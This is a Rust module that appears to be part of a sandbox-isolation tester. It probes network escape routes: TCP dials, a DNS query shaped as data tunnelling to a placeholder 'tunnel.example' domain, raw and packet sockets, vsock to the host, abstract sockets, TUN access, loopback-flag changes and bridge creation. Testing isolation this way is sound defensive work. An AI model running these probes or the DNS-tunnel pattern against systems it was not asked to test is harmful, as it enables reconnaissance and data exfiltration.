//! The network: the host, its neighbours, the cloud's metadata, and every kind of socket.

use crate::report::{Report, checked};
use std::ffi::c_int;
use std::fs;
use std::io::{Error, Read, Write};
use std::mem::MaybeUninit;
use std::net::{SocketAddr, TcpStream, UdpSocket};
use std::time::Duration;

const PATIENCE: Duration = Duration::from_millis(700);

pub fn attack(report: &mut Report, attack: &str, words: &[String]) -> bool {
    match (attack, words) {
        ("dial", [_, ..]) => words.iter().for_each(|address| dial(report, address)),
        ("dns", [_, ..]) => words.iter().for_each(|address| dns(report, address)),
        ("raw-sockets", []) => raw(report),
        ("vsock", []) => vsock(report),
        ("abstract-socket", [name]) => abstract_socket(report, name),
        ("new-interface", []) => interface(report),
        ("interfaces", []) => interfaces(report),
        _ => return false,
    }
    true
}

/// Reaches for a listener, over TCP and over UDP.
fn dial(report: &mut Report, address: &str) {
    let Ok(address) = address.parse::<SocketAddr>() else {
        return report.tried(format!("{address} is no address"));
    };
    let reached = TcpStream::connect_timeout(&address, PATIENCE).and_then(|mut stream| {
        stream.set_read_timeout(Some(PATIENCE))?;
        stream.write_all(b"GET / HTTP/1.0\r\n\r\n")?;
        // Whether it answers or not: it was reached.
        Ok(stream.read(&mut [0; 64]).unwrap_or(0))
    });
    report.outcome(&format!("tcp {address}"), reached);
}

/// Asks a name server; any answer at all would carry secrets out.
fn dns(report: &mut Report, server: &str) {
    let mut question = vec![0x13, 0x37, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for part in ["c2VjcmV0", "tunnel", "example"] {
        question.push(u8::try_from(part.len()).unwrap_or(0));
        question.extend(part.as_bytes());
    }
    question.extend([0, 0, 1, 0, 1]);
    let asked = (|| {
        let socket = UdpSocket::bind("0.0.0.0:0")?;
        socket.set_read_timeout(Some(PATIENCE))?;
        socket.send_to(&question, server)?;
        socket.recv(&mut [0; 512])
    })();
    report.outcome(&format!("an answer of {server}"), asked);
    let configured = fs::read_to_string("/etc/resolv.conf").unwrap_or_default();
    report.tried(format!("resolv.conf: {configured}"));
}

fn raw(report: &mut Report) {
    for (name, family, kind, protocol) in [
        (
            "raw icmp",
            libc::AF_INET,
            libc::SOCK_RAW,
            libc::IPPROTO_ICMP,
        ),
        ("raw ip", libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW),
        (
            "raw icmp6",
            libc::AF_INET6,
            libc::SOCK_RAW,
            libc::IPPROTO_ICMPV6,
        ),
        ("packets", libc::AF_PACKET, libc::SOCK_RAW, 0x0300),
        ("frames", libc::AF_PACKET, libc::SOCK_DGRAM, 0x0300),
        ("express data path", 44, libc::SOCK_RAW, 0),
        ("bluetooth", libc::AF_BLUETOOTH, libc::SOCK_RAW, 1),
        ("can", libc::AF_CAN, libc::SOCK_RAW, 1),
    ] {
        let socket = unsafe { libc::socket(family, kind, protocol) };
        report.call(name, socket.into());
    }
}

/// Sockets to the machine beneath a virtual machine know no network namespace.
fn vsock(report: &mut Report) {
    for kind in [libc::SOCK_STREAM, libc::SOCK_DGRAM] {
        let socket: c_int = unsafe { libc::socket(libc::AF_VSOCK, kind, 0) };
        if report.call("a vsock socket", socket.into()).is_none() {
            continue;
        }
        unsafe {
            let mut address: libc::sockaddr_vm = MaybeUninit::zeroed().assume_init();
            address.svm_family = libc::AF_VSOCK as u16;
            address.svm_cid = libc::VMADDR_CID_ANY;
            address.svm_port = libc::VMADDR_PORT_ANY;
            let bound = libc::bind(
                socket,
                (&raw const address).cast(),
                size_of::<libc::sockaddr_vm>() as libc::socklen_t,
            );
            report.call("bound to the machine beneath", bound.into());
        }
    }
}

/// Names in the abstract namespace have no file and no owner; only the network namespace keeps them apart.
fn abstract_socket(report: &mut Report, name: &str) {
    use std::os::linux::net::SocketAddrExt;
    let outcome = std::os::unix::net::SocketAddr::from_abstract_name(name)
        .and_then(|address| std::os::unix::net::UnixStream::connect_addr(&address));
    report.outcome(&format!("@{name}"), outcome);
}

fn interface(report: &mut Report) {
    report.outcome("/dev/net/tun", fs::File::open("/dev/net/tun"));
    unsafe {
        let socket = libc::socket(libc::AF_INET, libc::SOCK_DGRAM, 0);
        if let Err(error) = checked(socket.into()) {
            return report.tried(format!("a socket to set interfaces with: {error}"));
        }
        let mut request: libc::ifreq = MaybeUninit::zeroed().assume_init();
        for (to, from) in request.ifr_name.iter_mut().zip(b"lo") {
            *to = *from as libc::c_char;
        }
        // Read, then set to what it is: the right is what counts.
        if libc::ioctl(socket, libc::SIOCGIFFLAGS as _, &raw mut request) < 0 {
            return report.tried(format!("lo: {}", Error::last_os_error()));
        }
        let set = libc::ioctl(socket, libc::SIOCSIFFLAGS as _, &raw mut request);
        report.call("set the flags of lo", set.into());
        let bridge = libc::ioctl(socket, 0x89a0_u32 as _, c"hostile0".as_ptr());
        if report.call("a bridge", bridge.into()).is_some() {
            libc::ioctl(socket, 0x89a1_u32 as _, c"hostile0".as_ptr());
        }
    }
}

fn interfaces(report: &mut Report) {
    for entry in fs::read_dir("/sys/class/net")
        .into_iter()
        .flatten()
        .flatten()
    {
        let name = entry.file_name().to_string_lossy().into_owned();
        if name == "lo" {
            report.tried("lo");
        } else {
            report.got(name);
        }
    }
    for table in ["/proc/net/route", "/proc/net/ipv6_route", "/proc/net/arp"] {
        let text = fs::read_to_string(table).unwrap_or_default();
        let routes = text.lines().skip(usize::from(!table.contains("ipv6")));
        let routes = routes
            .filter(|line| !line.trim_end().ends_with(" lo"))
            .count();
        if routes == 0 {
            report.tried(format!("{table}: nothing but loopback"));
        } else {
            report.got(format!("{routes} lines of {table}"));
        }
    }
}
